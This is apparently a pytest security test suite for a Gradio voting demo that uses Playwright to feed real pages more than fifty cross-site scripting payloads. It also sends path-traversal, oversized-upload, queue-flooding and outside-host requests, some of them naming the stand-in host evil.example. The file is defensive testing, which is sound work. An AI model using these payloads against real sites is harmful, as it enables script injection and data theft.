"""Hostile input against real pages: markup in every text that people can choose, Gradio's own doors, what the server tells.

The pages run with Chromium; the rest are requests. What the guard refuses without Gradio is in test_guard.py.
"""

from __future__ import annotations

import contextlib
import io
import os
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

pytest.importorskip("gradio")
pytest.importorskip("playwright.sync_api")
import gradio as gr
from playwright.sync_api import Browser, Dialog, Page, Request, expect

from mmpo.demos import pool
from mmpo.demos.site import Site, visitor
from mmpo.demos.vote import vote_site
from tests.demos.conftest import serving
from tests.demos.sample_folders import text_samples
from tests.demos.test_guard import traversals

pytestmark = pytest.mark.slow
ROOT = Path(__file__).resolve().parents[2]

CALLS = ["alert(1)", "window.pwned=1", "document.title='pwned'"]
PAYLOADS = [
    *(f"<script>{call}</script>" for call in CALLS), "<script src=//evil.example/x.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>", "</script><script>alert(1)</script>", '"><script>alert(1)</script>',
    "'><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "<!--<script>alert(1)//-->", "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>", "<script>alert`1`</script>", "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//", "<img/src=x/onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>", "<svg/onload=alert(1)//",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))", "![x](javascript:alert(1))", '![x](x"onerror="alert(1))',
    "[x](data:text/html,<script>alert(1)</script>)", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>", "<math><mtext><script>alert(1)</script></mtext></math>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<template><script>alert(1)</script></template>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
    "$\\href{javascript:alert(1)}{x}$", "$$\\htmlData{x=<script>alert(1)</script>}{y}$$",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "\u202e<script>alert(1)</script>", "<scr\tipt>alert(1)</script>",
    "\x1b]0;pwned\x07<script>alert(1)</script>",
]  # fmt: skip


HOLD = threading.Event()  # what the slow function of `plain` waits for
PLANTED = """
[...document.querySelectorAll("script, iframe, object, embed, base, meta[http-equiv]")]
  .filter((e) => /alert|pwned|evil/.test(e.outerHTML) && !/gradio_(config|api_info) =/.test(e.textContent))
  .map((e) => e.outerHTML)
"""
HANDLERS = """
[...document.querySelectorAll("*")].flatMap((e) => [...e.attributes])
  .filter((a) => (/^on/.test(a.name) || /^\\s*javascript:/.test(a.value)) && a.value.includes("alert"))
  .map((a) => a.name + a.value)
"""


class Witness:
    """What a page must not do: open a dialog, run our payload, ask another server, hold a script or a frame of ours."""

    def __init__(self, page: Page) -> None:
        self.page, self.dialogs, self.foreign = page, list[str](), list[str]()
        page.on("dialog", self.dialog)
        page.on("request", self.request)

    def dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def request(self, request: Request) -> None:
        if "127.0.0.1" not in request.url[:24]:
            self.foreign.append(request.url)

    def check(self) -> None:
        assert self.dialogs == [] and self.page.evaluate("window.pwned === undefined") and "pwned" not in self.page.title()
        assert [url for url in self.foreign if not url.startswith(("data:", "blob:"))] == []
        assert self.page.evaluate(PLANTED) == [] and self.page.evaluate(HANDLERS) == []


def test_there_are_fifty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 50


def bundles(size: int = 9) -> list[str]:
    """All payloads, several to a text; those that would swallow what follows, such as an open comment, stand alone."""
    alone = [p for p in PAYLOADS if "<!--" in p or "\x1b" in p]
    rest = [p for p in PAYLOADS if p not in alone]
    return ["\n".join(rest[i : i + size]) for i in range(0, len(rest), size)] + alone


def test_markup_in_prompts_answers_and_names_is_text(browser: Browser, tmp_path: Path) -> None:
    """Every payload is a prompt, an answer of each system, and, where a file may be named so, a file's and a system's name."""
    first, second = "<img src=x onerror=alert(1)>", "b<script>alert(1)<|script>"
    items = [
        (f"<img src=x onerror=alert({i})>", text, {first: text, second: f"{text} {i}"}) for i, text in enumerate(bundles())
    ]
    folder = text_samples(tmp_path / "samples", items)
    with serving(vote_site(pool.open_pool(folder, "vote"), tmp_path / "votes", "vote")) as url:
        page = browser.new_page()
        witness, seen = Witness(page), ""
        page.goto(url)
        for done in range(len(items)):
            expect(page.locator("#vote-progress")).to_contain_text(f"{done} of {len(items)}", timeout=30_000)
            seen += page.locator("#vote-ballot").inner_text()
            witness.check()
            page.keyboard.press("1")
        expect(page.locator("#vote-progress")).to_contain_text(f"{len(items)} of {len(items)}")
        page.click("#vote-finish")
        expect(page.locator("#vote-results")).to_contain_text(first)
        witness.check()
        assert all(payload in seen for payload in ("<script>alert(1)</script>", "[x](javascript:alert(1))", "${alert(1)}")), (
            "as text"
        )
        page.close()


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    """A page with a box whose text comes back, a slow function and uploads; its address and folder."""
    folder = tmp_path_factory.mktemp("plain")
    (folder / "media").mkdir()
    secret = folder / "votes.db"
    secret.write_text("canary-file")

    def blocks() -> Any:
        def echo(text: str, request: gr.Request) -> tuple[str, str]:
            if text == "break":
                raise RuntimeError("canary-error " + os.environ["CANARY_TOKEN"])
            return text, visitor(request)

        with gr.Blocks() as made:
            box, out, who = gr.Textbox(label="Prompt", lines=3), gr.Textbox(label="Said", lines=3), gr.Textbox(label="Visitor")
            words = gr.HighlightedText(label="Words")
            upload = gr.File(label="File")
            # A click that comes between an answer and the word that it is complete is dropped by default ("once").
            gr.Button("Say").click(echo, box, [out, who], trigger_mode="multiple")
            show = lambda text: [(text, 0.5), (text, "<img src=x onerror=alert(1)>")]  # noqa: E731
            gr.Button("Show").click(show, box, words, trigger_mode="multiple")
            gr.Button("Wait").click(lambda: HOLD.wait(60) and None, None, None)
            upload.upload(lambda file: None, upload, None)
        return made

    os.environ["CANARY_TOKEN"] = "canary-of-the-environment"
    with serving(Site("Plain <script>alert(1)</script>", blocks, folder / "media", (secret,), uploads=True)) as url:
        yield url, folder
    del os.environ["CANARY_TOKEN"]


def join(url: str, text: Any, function: int = 0, session: str = "s") -> httpx.Response:
    body = {"data": [text], "fn_index": function, "session_hash": session}
    return httpx.post(f"{url}gradio_api/queue/join", json=body)


def test_markup_typed_into_gradios_own_components_is_text(browser: Browser, plain: tuple[str, Path]) -> None:
    page = browser.new_page()
    witness = Witness(page)
    page.goto(plain[0])
    for text in bundles():
        page.get_by_label("Prompt").fill(text)
        said(page, text)
        witness.check()
    page.close()


def said(page: Page, text: str) -> None:
    """Press both buttons until the answer is this text: a click just behind the keys may still send the words before."""
    for seconds in (5, 15, 40):
        page.get_by_role("button", name="Show").click()
        page.get_by_role("button", name="Say").click()
        with contextlib.suppress(AssertionError):
            return expect(page.get_by_label("Said")).to_have_value(text, timeout=1000 * seconds)
    raise AssertionError(f"not said within a minute: {text!r}")


def test_no_file_of_the_machine_is_served_by_gradio(plain: tuple[str, Path]) -> None:
    url, folder = plain
    with httpx.Client() as client:
        for form in [*traversals(folder), str(folder / "votes.db")]:
            if len(form) > 1000 or not form.isprintable():
                continue
            for route in ("file=", "file/", "file=..%2f", "proxy=", "stream/"):
                answer = client.get(f"{url}gradio_api/{route}{form.replace('#', '%23')}")
                assert answer.status_code in (403, 404) and "canary" not in answer.text, form


def test_an_upload_is_at_most_20_megabytes_and_leaves_nothing(plain: tuple[str, Path]) -> None:
    url, folder = plain

    def stored() -> int:
        return sum(path.stat().st_size for path in folder.rglob("*") if path.is_file())

    before = stored()
    zeros = io.BytesIO(bytes(21 * 2**20))
    assert httpx.post(f"{url}gradio_api/upload", files={"files": ("a.png", zeros)}).status_code == 413
    started = time.monotonic()
    with socket.create_connection(("127.0.0.1", httpx.URL(url).port or 0)) as wire:
        kind = "Content-Type: multipart/form-data; boundary=x"
        lines = ["POST /gradio_api/upload HTTP/1.1", "Host: 127.0.0.1", kind, f"Content-Length: {200 * 2**20}", "", ""]
        wire.sendall("\r\n".join(lines).encode())
        answer = wire.recv(4096)
    assert answer.startswith(b"HTTP/1.1 413") and time.monotonic() - started < 2, "refused before it was sent"
    assert stored() == before
    small = httpx.post(f"{url}gradio_api/upload", files={"files": ("<script>.png", b"x" * 1000)})
    assert small.status_code == 200 and all(Path(name).is_relative_to(folder) for name in small.json())


def test_config_and_errors_hold_no_secret(plain: tuple[str, Path], capfd: pytest.CaptureFixture[str]) -> None:
    url, _ = plain
    pages = [httpx.get(url + path) for path in ("", "config", "gradio_api/info", "gradio_api/openapi.json", "theme.css")]
    assert [page.status_code for page in pages] == [200, 200, 404, 404, 200]
    session = "secret"
    assert join(url, "break", 0, session).status_code == 200
    with httpx.stream("GET", f"{url}gradio_api/queue/data", params={"session_hash": session}, timeout=20) as stream:
        told = "".join(stream.iter_text())
    assert "process_completed" in told and '"success":false' in told
    assert "canary" not in told and not any("canary" in page.text for page in pages)
    assert "<script>alert(1)</script>" not in pages[0].text and "&lt;script&gt;" in pages[0].text, "the title is text"


def test_a_full_queue_says_so(plain: tuple[str, Path]) -> None:
    url, _ = plain
    try:
        answers = [join(url, None, 2, f"full{i}") for i in range(70)]
    finally:
        HOLD.set()
    full = [answer for answer in answers if answer.status_code == 503]
    assert full and "Queue is full" in full[0].json()["detail"]


def test_nothing_but_this_machine_is_looked_up(tmp_path: Path) -> None:
    """A server process of its own with a hook on every look-up and connection."""
    code = f"""
import socket, sys, threading, time, urllib.request
sys.path.insert(0, {str(ROOT)!r})
asked = []
def noting(real):
    def inner(host, *rest, **more):
        asked.append(str(host[0] if isinstance(host, tuple) else host)); return real(host, *rest, **more)
    return inner
socket.getaddrinfo = noting(socket.getaddrinfo); socket.gethostbyname = noting(socket.gethostbyname)
connect = socket.socket.connect
socket.socket.connect = lambda self, address: (asked.append(str(address[0])), connect(self, address))[1]
from pathlib import Path
from mmpo.demos import site as sites
def blocks():
    import gradio as gr
    with gr.Blocks() as made:
        box = gr.Textbox(label="Prompt"); box.submit(lambda text: text, box, box)
    return made
media = Path({str(tmp_path)!r}) / "media"; media.mkdir()
bound = sites.listening("127.0.0.1", 0); port = bound.getsockname()[1]
import uvicorn
server = uvicorn.Server(uvicorn.Config(sites.build(sites.Site("t", blocks, media)), log_level="error"))
threading.Thread(target=server.run, kwargs=dict(sockets=[bound]), daemon=True).start()
while not server.started: time.sleep(0.05); assert threading.active_count() > 1
for path in ("", "config", "theme.css"):
    urllib.request.urlopen(f"http://127.0.0.1:{{port}}/{{path}}").read()
for path in ("monitoring", "gradio_api/file=http://evil.example/x.png"):
    try: urllib.request.urlopen(f"http://127.0.0.1:{{port}}/{{path}}").read()
    except urllib.error.HTTPError as error: print(path, error.code)
time.sleep(1); server.should_exit = True
print("asked", sorted(set(asked))); print("torch", "torch" in sys.modules)
"""
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "asked ['127.0.0.1']" in done.stdout and "torch False" in done.stdout
    assert "monitoring 404" in done.stdout and "x.png 403" in done.stdout and "onitoring URL" not in done.stdout
